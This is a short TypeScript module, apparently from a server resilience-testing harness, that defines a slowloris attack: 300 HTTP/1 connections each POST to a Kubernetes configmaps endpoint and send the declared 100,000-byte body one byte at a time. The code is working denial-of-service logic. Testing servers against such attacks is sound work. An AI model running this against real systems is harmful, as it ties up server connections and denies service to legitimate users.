// Bodies that come byte by byte.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

export const attack: Attack = {
  reference: 'slowloris',
  does: 'sends a body byte by byte, on 300 connections',
  who: ['known', 'unknown'],
  answers: ['200', '400', '401', '403', '408', '413'],
  run: (target, signal) =>
    attackHttp1(target, signal, { connections: 300 }, (wire) => {
      const post = head1(target, 'POST /api/v1/namespaces/default/configmaps', 'Content-Length: 100000')
      let turns = 0
      const timer = setInterval(() => wire.more(), 50)
      wire.socket.once('close', () => clearInterval(timer))
      return {
        next() {
          turns++
          if (turns === 1) return post
          return turns % 2 === 0 ? Buffer.from('x') : undefined
        },
      }
    }),
}
